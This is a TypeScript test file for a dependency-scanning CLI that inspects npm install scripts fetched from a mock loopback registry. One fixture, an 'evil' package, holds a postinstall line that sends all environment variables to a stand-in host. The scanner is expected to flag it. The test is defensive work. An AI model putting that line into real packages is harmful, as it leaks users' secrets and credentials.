import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { scripts } from '../../../../server/src/node/cli/scripts.ts';
import { tarHeader } from '../../../tar-header.ts';
import { makeFolder, runCommand, withoutUser } from './run-command.ts';

before(withoutUser);

function archiveOf(files: Readonly<Record<string, string>>): Buffer {
  const blocks = Object.entries(files).flatMap(([path, text]) => {
    const body = Buffer.from(text);
    return [tarHeader(`package/${path}`, body.length), body, Buffer.alloc((512 - (body.length % 512)) % 512)];
  });
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

const manifestOf = (name: string, postinstall: string) =>
  JSON.stringify({ name, version: '1.0.0', scripts: { postinstall } });
const SENDS = "require('https').request('https://x.example.test').end(JSON.stringify(process.env));";

describe('scripts --trust --tarballs, with a registry on loopback', () => {
  const archives: Readonly<Record<string, Buffer>> = {
    evil: archiveOf({ 'package.json': manifestOf('evil', 'node a'), 'a.js': `\n${SENDS}` }),
    honest: archiveOf({ 'package.json': manifestOf('honest', 'node a.js'), 'a.js': "require('node:https')" }),
    other: archiveOf({ 'package.json': manifestOf('evil', 'node a') }),
    swapped: archiveOf({ 'package.json': manifestOf('swapped', 'node a') }),
    here: archiveOf({ 'package.json': manifestOf('here', 'node a') }),
  };
  const asked: string[] = [];
  let registry = '';
  const server = createServer((request, response) => {
    asked.push(request.url!);
    const name = /^\/(\w+)/.exec(request.url!)![1]!;
    const archive = archives[name];
    if (archive === undefined) return void response.writeHead(404).end();
    if (request.url!.endsWith('.tgz')) return void response.end(archive);
    const dist = { tarball: `${registry}${name}/-/${name}-1.0.0.tgz`, integrity: hashOf(archive) };
    const version = { name, version: '1.0.0', dist, hasInstallScript: true };
    const document = /^\/\w+\/1\.0\.0$/.test(request.url!)
      ? version
      : { name, 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } };
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify(document));
  });
  before(async () => {
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    registry = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  });
  after(() => server.close());

  const hashOf = (archive: Buffer) => `sha512-${createHash('sha512').update(archive).digest('base64')}`;

  function folderOf(names: readonly string[], hashes: Readonly<Record<string, string>> = {}) {
    const dependencies = Object.fromEntries(names.map((name) => [name, '1.0.0']));
    const packages = names.map((name) => [
      `node_modules/${name}`,
      {
        version: '1.0.0',
        resolved: `${registry}${name}/-/${name}-1.0.0.tgz`,
        integrity: hashes[name] ?? hashOf(archives[name]!),
        hasInstallScript: true,
      },
    ]);
    return makeFolder({
      '.npmrc': `registry=${registry}\n`,
      'package.json': JSON.stringify({ packageManager: 'npm@12.2.0', dependencies }),
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: { '': { dependencies }, ...Object.fromEntries(packages) },
      }),
      'node_modules/here/package.json': manifestOf('here', 'echo'),
    });
  }

  const rowsOf = (out: string) =>
    JSON.parse(out).scripts.map((row: Record<string, unknown>) => [row.package, row.seenIn, row.suspicious]);

  test('reads what the scripts of packages start that are not installed', async () => {
    const folder = folderOf(['evil', 'honest', 'here']);
    asked.length = 0;
    const { code, out } = await runCommand(scripts, folder, '--trust', '--tarballs', '--format', 'json');
    assert.equal(code, 1);
    assert.deepEqual(rowsOf(out).sort(), [
      [
        ...['evil', ['lockfile', 'registry', 'tarball']],
        'sends data of this machine over the network: all environment variables, in a.js:2',
      ],
      ['here', ['lockfile', 'installed', 'registry'], null],
      ['honest', ['lockfile', 'registry', 'tarball'], null],
    ]);
    assert.deepEqual(
      asked.filter((url) => url.endsWith('.tgz')),
      ['/evil/-/evil-1.0.0.tgz', '/honest/-/honest-1.0.0.tgz'],
    );
    const text = (await runCommand(scripts, folder, '--trust', '--tarballs')).out;
    assert.match(text, /^File: honest 1\.0\.0: a\.js opens connections \(line 1\)\.$/m);
  });

  test('a file with another hash, or of another package, is not read', async () => {
    const folder = folderOf(['swapped', 'other'], { swapped: hashOf(Buffer.from('before')) });
    const { out } = await runCommand(scripts, folder, '--trust', '--tarballs');
    assert.match(out, /^Not checked: swapped 1\.0\.0: the hash of its file differs from the lockfile's\.$/m);
    assert.match(out, /^Not checked: other 1\.0\.0: the package\.json of its file is missing or of another/m);
    const json = JSON.parse(
      (await runCommand(scripts, folder, '--trust', '--tarballs', '--format', 'json')).out,
    );
    assert.equal(json.coverage.state, 'partly');
    assert.deepEqual(
      json.coverage.gaps.map(({ subject }: { subject: string }) => subject),
      ['other 1.0.0', 'swapped 1.0.0'].sort(),
    );
  });

  test('nothing is downloaded without both options', async () => {
    asked.length = 0;
    const folder = folderOf(['evil']);
    await runCommand(scripts, folder, '--trust');
    assert.deepEqual(
      asked.filter((url) => url.endsWith('.tgz')),
      [],
    );
    for (const options of [['--tarballs'], ['--tarballs', '--trust', '--offline']]) {
      const { code, error } = await runCommand(scripts, folder, ...options);
      assert.equal(code, 2);
      assert.match(error, /^dephygiene: --tarballs asks the registries that the project names; add --trust/);
    }
  });
});
